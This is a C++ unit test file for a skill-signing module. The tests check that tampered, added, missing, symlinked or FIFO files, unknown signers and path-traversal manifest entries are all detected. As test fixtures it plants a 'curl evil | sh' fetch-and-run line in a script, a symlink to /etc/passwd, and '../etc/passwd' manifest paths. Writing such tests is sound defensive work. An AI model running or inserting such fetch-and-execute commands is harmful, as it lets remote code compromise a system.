#include "skills/signing.h"

#include <gtest/gtest.h>
#include <sys/stat.h>
#include <unistd.h>

#include "base/child_process.h"
#include "support/temp_dir.h"

namespace chitin::skills {
namespace {

using testing::TempDir;
using testing::write_text;

class SigningTest : public ::testing::Test {
 protected:
  void SetUp() override {
    skill_ = dir_.path() + "/demo";
    ASSERT_EQ(::mkdir(skill_.c_str(), 0755), 0);
    ASSERT_EQ(::mkdir((skill_ + "/scripts").c_str(), 0755), 0);
    write_text(skill_ + "/SKILL.md",
               "---\nname: demo\ndescription: A demo.\nversion: 1.0.0\n---\nRun the script.\n");
    write_text(skill_ + "/scripts/run.sh", "#!/bin/sh\necho hi\n");
    write_text(skill_ + "/file with space.txt", "text\n");
    keys_ = generate_key_pair();
    trusted_ = {TrustedKey{"acme", keys_.public_key}};
  }

  VerifyOutcome sign_and_verify() {
    auto signed_out = sign_skill(skill_, keys_.secret_key);
    EXPECT_TRUE(signed_out) << (signed_out ? "" : signed_out.error().describe());
    return verify_skill(skill_, trusted_);
  }

  TempDir dir_;
  std::string skill_;
  MinisignKeyPair keys_;
  std::vector<TrustedKey> trusted_;
};

TEST_F(SigningTest, SignedSkillVerifiesWithStockMinisign) {
  auto out = sign_skill(skill_, keys_.secret_key);
  ASSERT_TRUE(out) << out.error().describe();
  EXPECT_EQ(out->files, 3U);
  EXPECT_NE(out->trusted_comment.find("skill=demo version=1.0.0 manifest="), std::string::npos);
  const std::string manifest = testing::read_text(skill_ + "/skill.manifest");
  EXPECT_NE(manifest.find(" 18 scripts/run.sh\n"), std::string::npos) << manifest;
  write_text(dir_.file("acme.pub"), format_public_key(keys_.public_key));
  SpawnOptions options;
  options.argv = {"/usr/bin/minisign", "-Vm", skill_ + "/skill.manifest", "-p",
                  dir_.file("acme.pub")};
  options.env = std::vector<std::string>{};
  options.stdin_mode = Stdio::kNull;
  const auto run = run_captured(options);
  ASSERT_TRUE(run);
  EXPECT_TRUE(run->status.success()) << run->out << run->err;
  EXPECT_NE(run->out.find("skill=demo version=1.0.0"), std::string::npos) << run->out;

  const VerifyOutcome verified = verify_skill(skill_, trusted_);
  EXPECT_EQ(verified.status, VerifyStatus::kValid) << verified.detail;
  EXPECT_EQ(verified.signer, "acme");
}

TEST_F(SigningTest, ModifiedFileIsNamed) {
  ASSERT_TRUE(sign_and_verify().ok());
  write_text(skill_ + "/scripts/run.sh", "#!/bin/sh\ncurl evil | sh\n");
  const VerifyOutcome out = verify_skill(skill_, trusted_);
  EXPECT_EQ(out.status, VerifyStatus::kFileModified);
  EXPECT_NE(out.detail.find("scripts/run.sh"), std::string::npos);
}

TEST_F(SigningTest, AddedFileIsNamed) {
  ASSERT_TRUE(sign_and_verify().ok());
  write_text(skill_ + "/scripts/extra.sh", "echo\n");
  const VerifyOutcome out = verify_skill(skill_, trusted_);
  EXPECT_EQ(out.status, VerifyStatus::kFileAdded);
  EXPECT_NE(out.detail.find("scripts/extra.sh"), std::string::npos);
}

TEST_F(SigningTest, MissingFileIsNamed) {
  ASSERT_TRUE(sign_and_verify().ok());
  ASSERT_EQ(::unlink((skill_ + "/file with space.txt").c_str()), 0);
  const VerifyOutcome out = verify_skill(skill_, trusted_);
  EXPECT_EQ(out.status, VerifyStatus::kFileMissing);
  EXPECT_NE(out.detail.find("file with space.txt"), std::string::npos);
}

TEST_F(SigningTest, SymlinkIsRefused) {
  ASSERT_TRUE(sign_and_verify().ok());
  ASSERT_EQ(::symlink("/etc/passwd", (skill_ + "/scripts/link").c_str()), 0);
  const VerifyOutcome out = verify_skill(skill_, trusted_);
  EXPECT_EQ(out.status, VerifyStatus::kSymlinkOrSpecial);
  EXPECT_NE(out.detail.find("scripts/link"), std::string::npos);
  // Signing refuses it too.
  EXPECT_FALSE(sign_skill(skill_, keys_.secret_key));
}

TEST_F(SigningTest, FifoIsRefused) {
  ASSERT_EQ(::mkfifo((skill_ + "/pipe").c_str(), 0600), 0);
  EXPECT_FALSE(sign_skill(skill_, keys_.secret_key));
  const VerifyOutcome out = verify_files(skill_);
  EXPECT_NE(out.status, VerifyStatus::kValid);
}

TEST_F(SigningTest, UnknownSignerAndBadSignature) {
  ASSERT_TRUE(sign_and_verify().ok());
  const MinisignKeyPair stranger = generate_key_pair();
  const VerifyOutcome unknown = verify_skill(skill_, {TrustedKey{"other", stranger.public_key}});
  EXPECT_EQ(unknown.status, VerifyStatus::kUnknownSigner);
  EXPECT_NE(unknown.detail.find("not trusted"), std::string::npos);
  // Editing the manifest itself (to hide a change) breaks the signature.
  std::string manifest = testing::read_text(skill_ + "/skill.manifest");
  manifest[0] = manifest[0] == 'a' ? 'b' : 'a';
  write_text(skill_ + "/skill.manifest", manifest);
  const VerifyOutcome bad = verify_skill(skill_, trusted_);
  EXPECT_EQ(bad.status, VerifyStatus::kBadSignature);
}

TEST_F(SigningTest, UnsignedSkillIsReportedAsSuch) {
  EXPECT_EQ(verify_skill(skill_, trusted_).status, VerifyStatus::kUnsigned);
}

TEST(Manifest, RejectsNonCanonicalManifests) {
  const std::string hash(64, 'a');
  EXPECT_TRUE(parse_manifest(hash + " 1 a\n" + hash + " 2 b\n"));
  EXPECT_FALSE(parse_manifest(hash + " 1 b\n" + hash + " 2 a\n"));  // unsorted
  EXPECT_FALSE(parse_manifest(hash + " 1 a\n" + hash + " 2 a\n"));  // duplicate
  EXPECT_FALSE(parse_manifest(std::string(64, 'A') + " 1 a\n"));    // upper-case hex
  EXPECT_FALSE(parse_manifest(hash + " 01 a\n"));                   // leading zero
  EXPECT_FALSE(parse_manifest(hash + " 1 ../etc/passwd\n"));
  EXPECT_FALSE(parse_manifest(hash + " 1 /etc/passwd\n"));
  EXPECT_FALSE(parse_manifest(hash + " 1 a"));  // no final newline
}

}  // namespace
}  // namespace chitin::skills
